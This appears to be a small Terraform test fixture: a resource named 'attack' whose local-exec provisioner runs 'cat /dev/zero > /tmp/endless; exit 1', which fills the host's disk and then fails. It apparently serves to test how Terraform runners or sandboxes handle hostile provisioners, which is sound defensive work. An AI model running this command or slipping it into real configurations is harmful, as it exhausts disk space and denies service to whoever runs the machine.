resource "terraform_data" "attack" {
  provisioner "local-exec" {
    command = <<-EOT
      cat /dev/zero > /tmp/endless; exit 1
    EOT
  }
}
